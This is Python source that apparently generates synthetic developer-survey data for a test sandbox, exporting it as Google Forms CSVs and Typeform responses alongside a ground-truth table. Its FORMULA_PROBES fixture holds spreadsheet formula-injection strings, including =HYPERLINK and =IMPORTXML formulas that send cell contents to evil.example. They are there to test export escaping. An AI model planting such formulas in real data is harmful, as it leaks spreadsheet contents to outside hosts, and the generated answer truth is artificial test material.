"""Quarterly developer-experience surveys: what people answered, and how each tool exports it.

Every calendar quarter whose survey window (its last three weeks) lies inside the generated
timeline gets one survey. The organisation moved tools half-way: the first half of the quarters
(at least one) ran on Google Forms and exist only as the sheet's CSV export, the rest ran on
Typeform and are served by its Responses API from ``typeform_forms``/``typeform_responses``.
``survey_truth`` holds what every respondent really answered, whatever the tool, keyed by
question key, so the ground truth never re-parses an export.

Respondents are catalog users: each member of a team answers with a team-dependent probability
(40-90 %, happier teams answer more); scores scatter around the team's ``profile.mood`` plus a
per-team drift over the quarters and a persistent per-person offset. The quirks real exports
have are all here, and every quarter has at least one of each where it applies:

- the tiny team (3 members) is always below the anonymity threshold (no contractor joins it);
- contractors who are not in the catalog answer, with an outside email, and say their team;
- Typeform respondents may leave the optional email empty (they answer the team question);
- a few catalog users pick a team they no longer belong to: the catalog (by email) is right;
- Google Forms: ``Timestamp`` as ``M/D/YYYY H:MM:SS`` in the sheet's zone without offset,
  ``Email Address``/``Email address`` alternating between files, checkbox answers joined with
  ``", "``, free text with formula-injection probes, emoji, right-to-left text, commas, quotes
  and line breaks;
- Typeform: each quarter is a new form (new field ids, same refs), answers in the API's shape,
  skipped optional questions absent, and about 3 % of responses listed 1-3 days late.

``survey_truth`` conventions: ``team`` is the catalog team of a catalog user (whatever they
answered), or the answered team (its catalog name) for a contractor; ``email`` is the raw
email or NULL; ``answers_json`` maps the six question keys (not ``team``/``email``) to an int
(likert, nps), a str (choice, text) or a list of str (``top_blocker``); a skipped optional
question is absent. Google Forms response ids are ``<quarter>-<data row>`` (1-based, in the
file's row order).
"""

from __future__ import annotations

import csv
import json
import random
import string
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from sandbox.scales import Scale
from sandbox.world.catalog import Catalog, Team

Write = Callable[[str, list[tuple]], None]

DAY = 86_400
WINDOW_DAYS = 21
BATCH = 10_000

DEPLOY_TIMES = ("Less than a day", "1–3 days", "About a week", "More than a week")
BLOCKERS = (
    "Waiting for code review",
    "Flaky CI",
    "Test environments",
    "Access requests",
    "Missing documentation",
)
IMPROVEMENTS = (
    "Faster CI pipelines",
    "Better onboarding docs for new services",
    "Self-service test environments",
    "Fewer manual approval steps",
    "A golden path template",
    "Quicker access requests",
    "Less time waiting for reviews",
    "Stable staging environment",
    "Clearer ownership of shared libraries",
    "Preview environments per pull request",
    "Fewer flaky integration tests",
    "Better observability out of the box",
    "Nothing, it works well",
    "Docs for the deploy pipeline, please",
)
# Free text a spreadsheet would run as a formula if a tool re-exported it unescaped.
# Free text a spreadsheet would run as a formula if a tool re-exported it unescaped, by the
# character that triggers it.
FORMULA_PROBES: tuple[tuple[str, ...], ...] = (
    (
        '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
        "=1+2",
        '=IMPORTXML("https://evil.example","//a")',
    ),
    ("+1 for faster builds", "+SUM(1;2)"),
    ("-2 points for the flaky staging cluster", "-- honestly, nothing"),
    ("@platform-team please fix the docs", "@SUM(1+1)"),
)
# Text that breaks naive encodings and CSV handling: emoji, right-to-left scripts, line breaks
# with quotes and commas.
EXOTIC_TEXTS: tuple[tuple[str, ...], ...] = (
    ("Faster builds please 🚀🚀", "CI is 🐢 on Mondays", "Less YAML, more 🧘"),
    ("تحسين التوثيق للخدمات الجديدة", "שיפור זמני הבנייה"),
    (
        'Documentation\nand onboarding,\n"golden paths" too',
        'More 👍 fewer 👎, and "quotes", commas',
    ),
)
CONTRACTOR_DOMAINS = ("contractor.example", "agency-partners.example", "freelance.example")

# (key, title, Typeform field type, scale): the product brief's questions, in form order.
QUESTIONS: tuple[tuple[str, str, str, str], ...] = (
    ("team", "Which team are you on?", "multiple_choice", "choice"),
    (
        "deploy_new_service_time",
        "How long does it take to deploy a new service?",
        "multiple_choice",
        "choice",
    ),
    ("ease_of_start", "How easy is it to get started?", "opinion_scale", "likert5"),
    ("platform_satisfaction", "How satisfied are you with the platform?", "rating", "likert5"),
    ("platform_nps", "How likely are you to recommend the platform to a colleague?", "nps", "nps"),
    ("top_blocker", "What blocks you most?", "multiple_choice", "checkbox"),
    ("improvement", "What would you improve?", "long_text", "text"),
)
EMAIL_TITLE = "Your work email (optional)"
ALNUM = string.ascii_letters + string.digits
TOKEN_CHARS = string.ascii_lowercase + string.digits


def ts(t: int) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))


@dataclass
class Quarter:
    label: str  # YYYY-Qn
    index: int  # position among the surveyed quarters (drift runs with it)
    window_start: int
    end: int  # first moment of the next quarter (exclusive)


@dataclass
class Response:
    submitted_at: int
    email: str | None  # what the respondent typed / the form collected
    true_team: str  # truth: catalog team (catalog users) or answered team (contractors)
    answered_team: str  # catalog name of the team they picked
    answers: dict[str, object]  # key -> truth value (int, str, list[str])
    seq: int = 0  # generation order: a stable tie-break
    late_seconds: int = 0


def survey_quarters(start: int, horizon: int) -> list[Quarter]:
    """Calendar quarters whose window (their last three weeks) lies in [start, horizon)."""
    first = datetime.fromtimestamp(start, UTC)
    year, q = first.year, (first.month - 1) // 3
    quarters: list[Quarter] = []
    while True:
        ny, nq = (year + 1, 0) if q == 3 else (year, q + 1)
        q_end = int(datetime(ny, nq * 3 + 1, 1, tzinfo=UTC).timestamp())
        window_start = q_end - WINDOW_DAYS * DAY
        if q_end > horizon:
            break
        if window_start >= start:
            quarters.append(Quarter(f"{year}-Q{q + 1}", len(quarters), window_start, q_end))
        year, q = ny, nq
    return quarters


def _clamp(x: float, lo: float, hi: float) -> float:
    return lo if x < lo else hi if x > hi else x


@dataclass
class _TeamState:
    team: Team
    response_rate: float
    drift: float  # mood change per quarter
    blocker_weights: list[float]


def _team_states(cat: Catalog, seed: int) -> dict[str, _TeamState]:
    states = {}
    for t in cat.teams:
        rng = random.Random(f"{seed}:surveys:team:{t.name}")
        mood = t.profile.mood
        # Happier teams answer more: 40-90 %.
        rate = 0.4 + 0.5 * _clamp((mood - 2.5) / 2 + rng.gauss(0.35, 0.15), 0.0, 1.0)
        # Low performers wait for reviews and fight CI; elite teams mostly miss docs.
        slow = _clamp((4.4 - mood) / 1.7, 0.0, 1.0)
        weights = [1 + 3 * slow, 1 + 2 * slow, 1.5, 1.0, 1.5 - slow]
        weights = [w * rng.uniform(0.7, 1.3) for w in weights]
        states[t.name] = _TeamState(t, rate, rng.gauss(0.0, 0.06), weights)
    return states


def _person_offsets(cat: Catalog, seed: int) -> dict[str, float]:
    rng = random.Random(f"{seed}:surveys:people")
    return {user: rng.gauss(0.0, 0.35) for user in cat.users}


def _answers(rng: random.Random, mood: float, weights: list[float]) -> dict[str, object]:
    def likert(mu: float) -> int:
        return int(_clamp(round(rng.gauss(mu, 0.75)), 1, 5))

    k = rng.choices((1, 1, 2, 2, 3), k=1)[0]
    picked: set[str] = set()
    while len(picked) < k:
        picked.add(rng.choices(BLOCKERS, weights=weights, k=1)[0])
    answers: dict[str, object] = {
        "deploy_new_service_time": DEPLOY_TIMES[
            int(_clamp(round(rng.gauss(4.6 - mood, 0.8)), 0, 3))
        ],
        "ease_of_start": likert(mood - 0.15),
        "platform_satisfaction": likert(mood),
        "platform_nps": int(_clamp(round(rng.gauss(2.6 * mood - 2.2, 1.4)), 0, 10)),
        # Google Forms lists checkbox answers in the options' order: so does the truth.
        "top_blocker": [b for b in BLOCKERS if b in picked],
    }
    if rng.random() < 0.65:
        answers["improvement"] = rng.choice(IMPROVEMENTS)
    return answers


def _submitted(rng: random.Random, q: Quarter) -> int:
    # Most answers come in the first days after the invitation, during the working day.
    day = int(WINDOW_DAYS * rng.random() ** 1.7)
    second = int(_clamp(rng.gauss(10.5 * 3600, 3 * 3600), 0, DAY - 1))
    return min(q.window_start + day * DAY + second, q.end - 1)


def _quarter_responses(
    cat: Catalog,
    q: Quarter,
    *,
    seed: int,
    tf: bool,
    states: dict[str, _TeamState],
    offsets: dict[str, float],
    horizon: int,
) -> list[Response]:
    rng = random.Random(f"{seed}:surveys:{q.label}")
    org_drift = 0.03 * q.index
    responses: list[Response] = []
    for t in cat.teams:
        st = states[t.name]
        mood_q = _clamp(
            t.profile.mood + org_drift + st.drift * q.index + rng.gauss(0, 0.08), 1.5, 4.8
        )
        rate = _clamp(st.response_rate + rng.uniform(-0.05, 0.05), 0.4, 0.9)
        for user in t.members:
            if rng.random() >= rate:
                continue
            email, _team = cat.users[user]
            responses.append(
                Response(
                    submitted_at=_submitted(rng, q),
                    email=email,
                    true_team=t.name,
                    answered_team=t.name,
                    answers=_answers(rng, mood_q + offsets[user], st.blocker_weights),
                    seq=len(responses),
                )
            )
    n = len(responses)
    if n == 0:
        return responses
    # Contractors: not in the catalog, never in a team too small to stay anonymous.
    open_teams = [t for t in cat.teams if len(t.members) >= 5] or cat.teams[:1]
    contractors: set[str] = set()
    for _ in range(max(1, round(0.012 * n))):
        t = rng.choice(open_teams)
        st = states[t.name]
        while True:  # each contractor answers once a quarter
            email = (
                f"{rng.choice(('sam', 'alex', 'kim', 'robin', 'noor', 'yuki'))}."
                f"{rng.choice(('ext', 'contract', 'temp'))}{rng.randrange(1, 999)}"
                f"@{rng.choice(CONTRACTOR_DOMAINS)}"
            )
            if email not in contractors:
                contractors.add(email)
                break
        responses.append(
            Response(
                submitted_at=_submitted(rng, q),
                email=email,
                true_team=t.name,
                answered_team=t.name,
                answers=_answers(
                    rng, t.profile.mood + org_drift + st.drift * q.index, st.blocker_weights
                ),
                seq=len(responses),
            )
        )
    insiders = list(range(n))
    # Free text quirks: formula probes (two trigger characters a quarter, all four over two
    # quarters), then emoji, right-to-left and multi-line answers.
    k_probe = max(2, round(0.02 * len(responses)))
    k_exotic = max(len(EXOTIC_TEXTS), round(0.02 * len(responses)))
    picked = rng.sample(range(len(responses)), k=min(len(responses), k_probe + k_exotic))
    for j, i in enumerate(picked):
        if j < k_probe:
            group = FORMULA_PROBES[(2 * q.index + j) % len(FORMULA_PROBES)]
        else:
            group = EXOTIC_TEXTS[(j - k_probe) % len(EXOTIC_TEXTS)]
        responses[i].answers["improvement"] = rng.choice(group)
    anonymous: set[int] = set()
    if tf:
        # A few leave the optional email empty (catalog users; they answer the team honestly).
        anonymous = set(rng.sample(insiders, k=max(1, round(0.02 * n))))
        for i in anonymous:
            responses[i].email = None
    # A few catalog users pick a team they left; the catalog (by their email) is right.
    others = [t.name for t in cat.teams if len(t.members) >= 5]
    named = [i for i in insiders if i not in anonymous]
    for i in rng.sample(named, k=min(len(named), max(1, round(0.01 * n)))):
        r = responses[i]
        choices = [name for name in others if name != r.true_team]
        if choices:
            r.answered_team = rng.choice(choices)
    responses.sort(key=lambda r: (r.submitted_at, r.seq))
    if tf:
        candidates = [i for i, r in enumerate(responses) if r.submitted_at + 3 * DAY < horizon]
        k = min(len(candidates), max(1, round(0.03 * len(responses))))
        for i in rng.sample(candidates, k=k):
            responses[i].late_seconds = rng.randrange(DAY, 3 * DAY)
    return responses


def _local_time(t: int, tz: ZoneInfo) -> tuple[int, str]:
    """The sheet's ``M/D/YYYY H:MM:SS``; moves off an ambiguous (DST fall-back) local hour."""
    while True:
        local = datetime.fromtimestamp(t, tz)
        if local.replace(fold=1).utcoffset() == local.replace(fold=0).utcoffset():
            break
        t += 3600
    text = (
        f"{local.month}/{local.day}/{local.year} {local.hour}:{local.minute:02d}:{local.second:02d}"
    )
    return t, text


class _Batches:
    def __init__(self, write: Write) -> None:
        self.write = write
        self.rows: dict[str, list[tuple]] = {}

    def add(self, table: str, row: tuple) -> None:
        rows = self.rows.setdefault(table, [])
        rows.append(row)
        if len(rows) >= BATCH:
            self.write(table, rows)
            self.rows[table] = []

    def flush(self) -> None:
        for table, rows in self.rows.items():
            if rows:
                self.write(table, rows)
        self.rows = {}


def _truth_row(source: str, response_id: str, q: Quarter, r: Response) -> tuple:
    return (
        source,
        response_id,
        q.label,
        ts(r.submitted_at),
        r.email,
        r.true_team,
        json.dumps(r.answers, ensure_ascii=False, sort_keys=True),
    )


def _write_googleforms(
    path: Path,
    q: Quarter,
    responses: list[Response],
    file_index: int,
    display: dict[str, str],
    tz: ZoneInfo,
    out: _Batches,
) -> None:
    email_col = "Email Address" if file_index % 2 == 0 else "Email address"
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh, lineterminator="\n")
        w.writerow(["Timestamp", email_col, *(title for _k, title, _t, _s in QUESTIONS)])
        rows = []
        for r in responses:
            r.submitted_at, stamp = _local_time(r.submitted_at, tz)
            rows.append((r, stamp))
        # Moving off an ambiguous hour can reorder: the sheet lists in submission order.
        rows.sort(key=lambda x: (x[0].submitted_at, x[0].seq))
        for row_no, (r, stamp) in enumerate(rows, start=1):
            cells = [stamp, r.email or ""]
            for key, _title, _type, scale in QUESTIONS:
                if key == "team":
                    cells.append(display[r.answered_team])
                    continue
                value = r.answers.get(key)
                if value is None:
                    cells.append("")
                elif scale == "checkbox" and isinstance(value, list):
                    cells.append(", ".join(value))
                else:
                    cells.append(str(value))
            w.writerow(cells)
            out.add("survey_truth", _truth_row("googleforms", f"{q.label}-{row_no}", q, r))


def _rand_id(rng: random.Random, n: int, chars: str = ALNUM) -> str:
    return "".join(rng.choice(chars) for _ in range(n))


def _typeform_form(rng: random.Random, cat: Catalog) -> tuple[str, list[dict]]:
    """A new form per quarter (a duplicate: new ids, same refs)."""
    form_id = _rand_id(rng, 8)
    fields: list[dict] = [
        {
            "id": _rand_id(rng, 12),
            "ref": "email",
            "title": EMAIL_TITLE,
            "type": "email",
            "validations": {"required": False},
        }
    ]
    for key, title, ftype, scale in QUESTIONS:
        f: dict = {
            "id": _rand_id(rng, 12),
            "ref": key,
            "title": title,
            "type": ftype,
            "validations": {"required": scale != "text"},
        }
        if ftype == "multiple_choice":
            labels = (
                [t.display_name for t in cat.teams]
                if key == "team"
                else DEPLOY_TIMES
                if key == "deploy_new_service_time"
                else BLOCKERS
            )
            f["properties"] = {
                "allow_multiple_selection": scale == "checkbox",
                "randomize": False,
                "choices": [
                    {
                        "id": _rand_id(rng, 12),
                        "ref": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                        "label": label,
                    }
                    for label in labels
                ],
            }
        elif ftype == "opinion_scale":
            f["properties"] = {
                "steps": 5,
                "start_at_one": True,
                "labels": {"left": "Very hard", "right": "Very easy"},
            }
        elif ftype == "rating":
            f["properties"] = {"steps": 5, "shape": "star"}
        elif ftype == "nps":
            f["properties"] = {"steps": 11, "start_at_one": False}
        fields.append(f)
    return form_id, fields


def _typeform_answers(fields: list[dict], r: Response, display: dict[str, str]) -> list[dict]:
    answers: list[dict] = []
    for f in fields:
        ref = f["ref"]
        head = {"field": {"id": f["id"], "type": f["type"], "ref": ref}}
        if ref == "email":
            if r.email is not None:
                answers.append({**head, "type": "email", "email": r.email})
            continue
        if ref == "team":
            value: object = display[r.answered_team]
        else:
            value = r.answers.get(ref)
        if value is None:
            continue
        if f["type"] == "multiple_choice":
            choices = {c["label"]: c for c in f["properties"]["choices"]}
            if isinstance(value, list):
                picked = [choices[v] for v in value]
                answers.append(
                    {
                        **head,
                        "type": "choices",
                        "choices": {
                            "ids": [c["id"] for c in picked],
                            "refs": [c["ref"] for c in picked],
                            "labels": [c["label"] for c in picked],
                        },
                    }
                )
            else:
                c = choices[str(value)]
                answers.append(
                    {
                        **head,
                        "type": "choice",
                        "choice": {"id": c["id"], "ref": c["ref"], "label": c["label"]},
                    }
                )
        elif f["type"] in ("opinion_scale", "rating", "nps"):
            answers.append({**head, "type": "number", "number": value})
        else:
            answers.append({**head, "type": "text", "text": value})
    return answers


def generate_surveys(
    cat: Catalog,
    scale: Scale,
    *,
    seed: int,
    start: int,
    end: int,
    horizon: int,
    timezone: str,
    root: Path,
    write: Write,
) -> list[tuple[str, str]]:
    """Write every quarter's survey; return the (relative path, kind) of the files written.

    ``scale`` sets nothing beyond the catalog it built (kept for a uniform generator call);
    ``end`` is not a cut-off: a survey window may close after it, up to ``horizon``.
    """
    del scale, end
    tz = ZoneInfo(timezone)
    quarters = survey_quarters(start, horizon)
    n_forms = max(1, len(quarters) // 2) if quarters else 0
    states = _team_states(cat, seed)
    offsets = _person_offsets(cat, seed)
    display = {t.name: t.display_name for t in cat.teams}
    out = _Batches(write)
    files: list[tuple[str, str]] = []
    for q in quarters:
        tf = q.index >= n_forms
        responses = _quarter_responses(
            cat, q, seed=seed, tf=tf, states=states, offsets=offsets, horizon=horizon
        )
        if not tf:
            rel = f"exports/googleforms/{q.label}.csv"
            _write_googleforms(root / rel, q, responses, q.index, display, tz, out)
            files.append((rel, "googleforms"))
            continue
        rng = random.Random(f"{seed}:surveys:typeform:{q.label}")
        form_id, fields = _typeform_form(rng, cat)
        out.add(
            "typeform_forms",
            (
                form_id,
                f"Developer experience survey {q.label}",
                q.label,
                json.dumps(fields, ensure_ascii=False),
            ),
        )
        for r in responses:
            token = _rand_id(rng, 32, TOKEN_CHARS)
            landed = r.submitted_at - rng.randrange(40, 900)
            out.add(
                "typeform_responses",
                (
                    form_id,
                    token,
                    token,
                    ts(landed),
                    ts(r.submitted_at),
                    ts(r.submitted_at + r.late_seconds),
                    json.dumps(_typeform_answers(fields, r, display), ensure_ascii=False),
                    "{}",
                ),
            )
            out.add("survey_truth", _truth_row("typeform", token, q, r))
    out.flush()
    return files
